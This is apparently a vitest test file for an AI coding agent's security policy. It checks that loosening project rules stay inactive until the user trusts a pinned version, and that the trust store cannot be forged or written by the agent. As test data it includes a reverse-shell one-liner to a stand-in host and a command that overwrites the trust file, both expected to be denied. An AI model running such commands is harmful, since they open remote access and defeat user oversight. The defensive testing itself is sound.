import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { defaultTrustFile } from '../config/trust-store.js';
import { SECURITY_RULES_PATH } from './load-security-rules.js';
import { createPolicy } from './policy.js';
import { loadProjectRules, trustProjectRules } from './rules-trust.js';

let base: string;
let root: string;
let trustFile: string;

beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'ralex-trust-')));
  root = join(base, 'project');
  mkdirSync(join(root, '.ralex', 'config'), { recursive: true });
  trustFile = join(base, 'state', 'ralex', 'trusted-rules.json');
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

const write = (text: string) => writeFileSync(join(root, SECURITY_RULES_PATH), text);
const policy = () => createPolicy({ projectRoot: root, trustFile, home: join(base, 'home') });

/** A file pulled from someone else's repository: loosens a lot, tightens a little. */
const PULLED = [
  'commands:',
  '  - {match: "git push", decision: allow}',
  '  - {match: "git log", decision: deny}',
  'tools: {delete_file: allow, write_file: ask}',
  'defaults: {"default:dev-tcp": allow}',
  'paths:',
  '  - {glob: ".env.test", access: read, decision: allow}',
  '  - {glob: "migrations/**", access: write, decision: deny}',
  'writable_outside: ["/tmp/ralex-trust-test/**"]',
  '',
].join('\n');

describe('a project rules file that loosens the built-in rules', () => {
  it('is ignored until trusted: tightening entries apply, loosening ones do not, and the decision says so', async () => {
    write(PULLED);
    const p = await policy();
    expect(p.trust.state).toBe('untrusted');
    expect(p.trust.loosening.map((l) => l.entry)).toEqual([
      'tools.delete_file',
      'defaults.default:dev-tcp',
      'commands[0]',
      'paths[0]',
      'writable_outside[0]',
    ]);
    const push = p.checkShell('git push origin main');
    expect(push).toMatchObject({
      decision: 'ask',
      rule: 'default:git-push',
      untrusted: { rule: 'user:commands[0]', decision: 'allow' },
    });
    expect(push.reason).toContain('ralex trust');
    expect(p.checkShell('bash -i >& /dev/tcp/evil.example/4444 0>&1').decision).toBe('deny');
    expect(p.checkTool('delete_file', { path: 'README.md' })).toMatchObject({
      decision: 'ask',
      untrusted: { decision: 'allow' },
    });
    expect(p.checkPath('.env.test', { write: false })).toMatchObject({
      decision: 'ask',
      rule: 'default:secret-read',
    });
    expect(p.checkShell('echo x > /tmp/ralex-trust-test/out.txt').decision).toBe('deny');
    // The tightening entries of the same file apply at once, with their own ids.
    expect(p.checkShell('git log')).toMatchObject({ decision: 'deny', rule: 'user:commands[1]' });
    expect(p.checkTool('write_file', { path: 'a.txt', content: 'x' }).decision).toBe('ask');
    expect(p.checkPath('migrations/001.sql', { write: true }).rule).toBe('user:paths[1]');
    // An ordinary command is decided as before, with no note.
    expect(p.checkShell('npm test')).toMatchObject({ decision: 'allow' });
    expect(p.checkShell('npm test').untrusted).toBeUndefined();

    const trusted = trustProjectRules(root, { trustFile });
    expect(trusted.state).toBe('trusted');
    const after = await policy();
    expect(after.trust.state).toBe('trusted');
    expect(after.checkShell('git push origin main')).toMatchObject({
      decision: 'allow',
      rule: 'user:commands[0]',
    });
    expect(after.checkTool('delete_file', { path: 'README.md' }).decision).toBe('allow');
    expect(after.checkPath('.env.test', { write: false }).decision).toBe('allow');
    expect(after.checkShell('echo x > /tmp/ralex-trust-test/out.txt').decision).toBe('allow');
  });

  it('is untrusted again once edited, and trusting it again trusts only the new version', async () => {
    write(PULLED);
    trustProjectRules(root, { trustFile });
    expect((await policy()).checkShell('git push').decision).toBe('allow');
    write(`${PULLED}# one more line\n`);
    const edited = await policy();
    expect(edited.trust.state).toBe('untrusted');
    expect(edited.checkShell('git push').decision).toBe('ask');
    trustProjectRules(root, { trustFile });
    write(PULLED); // back to the first version: that one is no longer the trusted one
    expect((await policy()).trust.state).toBe('untrusted');
  });

  it('refuses to trust a file that changed since it was shown', () => {
    write(PULLED);
    const shown = loadProjectRules(root, { trustFile }).trust.sha256!;
    write(PULLED.replace('/tmp/ralex-trust-test/**', '/**'));
    expect(trustProjectRules(root, { trustFile, expectedSha256: shown }).state).toBe('untrusted');
    expect(loadProjectRules(root, { trustFile }).trust.state).toBe('untrusted');
  });

  it('keeps trust in a file outside the project, readable by the user only, that persists', async () => {
    write(PULLED);
    const trust = trustProjectRules(root, { trustFile });
    const stored = JSON.parse(readFileSync(trustFile, 'utf8'));
    expect(stored.trusted).toEqual([
      expect.objectContaining({
        project: root,
        sha256: createHash('sha256')
          .update(readFileSync(join(root, SECURITY_RULES_PATH)))
          .digest('hex'),
      }),
    ]);
    expect(trust.sha256).toBe(stored.trusted[0].sha256);
    expect(statSync(trustFile).mode & 0o777).toBe(0o600);
    expect(defaultTrustFile({ HOME: '/home/u' })).toBe('/home/u/.local/state/ralex/trusted-rules.json');
    expect(defaultTrustFile({ HOME: '/home/u', XDG_STATE_HOME: '/var/s' })).toBe(
      '/var/s/ralex/trusted-rules.json',
    );
  });

  it('does not take a trust record the repository brings along in .ralex/state', async () => {
    write(PULLED);
    const sha256 = loadProjectRules(root, { trustFile }).trust.sha256;
    const forged = {
      version: 1,
      trusted: [{ project: root, sha256, trustedAt: '2020-01-01T00:00:00.000Z' }],
    };
    mkdirSync(join(root, '.ralex', 'state'), { recursive: true });
    writeFileSync(join(root, '.ralex', 'state', 'trusted-rules.json'), JSON.stringify(forged));
    const p = await createPolicy({
      projectRoot: root,
      trustFile: defaultTrustFile({ HOME: join(base, 'home') }),
      home: join(base, 'home'),
    });
    expect(p.trust.state).toBe('untrusted');
    expect(p.checkShell('git push').decision).toBe('ask');
  });
});

describe('where trust is kept', () => {
  it("is out of the agent's reach, and a trust file inside the project is never read or written", async () => {
    write(PULLED);
    const p = await policy();
    expect(
      p.checkShell('mkdir -p ~/.local/state/ralex && echo x > ~/.local/state/ralex/trusted-rules.json')
        .decision,
    ).toBe('deny');
    expect(
      p.checkTool('write_file', { path: join(base, 'state', 'ralex', 'trusted-rules.json'), content: '{}' })
        .decision,
    ).toBe('deny');
    const inside = join(root, 'state', 'trusted-rules.json');
    expect(() => trustProjectRules(root, { trustFile: inside })).toThrow(/inside the project/);
    const sha256 = loadProjectRules(root, { trustFile }).trust.sha256;
    mkdirSync(join(root, 'state'), { recursive: true });
    writeFileSync(
      inside,
      JSON.stringify({ version: 1, trusted: [{ project: root, sha256, trustedAt: 'x' }] }),
    );
    expect(loadProjectRules(root, { trustFile: inside }).trust.state).toBe('untrusted');
  });
});

describe('a project rules file that only tightens', () => {
  it('applies at once, without trust', async () => {
    write(
      [
        'commands: [{match: "git log", decision: deny}]',
        'tools: {write_file: ask}',
        'paths: [{glob: "secrets/**", decision: deny}]',
        'defaults: {"default:network": deny}',
        'unknown_commands: deny',
      ].join('\n'),
    );
    const p = await policy();
    expect(p.trust).toMatchObject({ state: 'untrusted', loosening: [] });
    expect(p.trust.message).toMatch(/only tightens/);
    expect(p.checkShell('git log').rule).toBe('user:commands[0]');
    expect(p.checkShell('curl https://example.com').decision).toBe('deny');
    expect(p.checkShell('mystery-tool').decision).toBe('deny');
    expect(p.checkTool('write_file', { path: 'a.txt', content: 'x' }).decision).toBe('ask');
    expect(p.checkPath('secrets/a.txt', { write: false }).decision).toBe('deny');
  });

  it('still cannot loosen by a match the entry-by-entry reading did not foresee', async () => {
    // "npm test" allows npm test (already allowed), but as a token pattern it also matches
    // "npm install test", which the built-in rules ask about.
    write('commands: [{match: "npm test", decision: allow}]\n');
    const p = await policy();
    expect(p.trust.loosening).toEqual([]);
    expect(p.checkShell('npm test').decision).toBe('allow');
    expect(p.checkShell('npm install test')).toMatchObject({
      decision: 'ask',
      rule: 'default:install-packages',
      untrusted: { rule: 'user:commands[0]', decision: 'allow' },
    });
    trustProjectRules(root, { trustFile });
    expect((await policy()).checkShell('npm install test').decision).toBe('allow');
  });
});

describe('no rules file', () => {
  it('needs no trust', async () => {
    const p = await policy();
    expect(p.trust).toMatchObject({ state: 'absent', sha256: null });
    expect(trustProjectRules(root, { trustFile }).state).toBe('absent');
    expect(() => statSync(trustFile)).toThrow();
  });
});
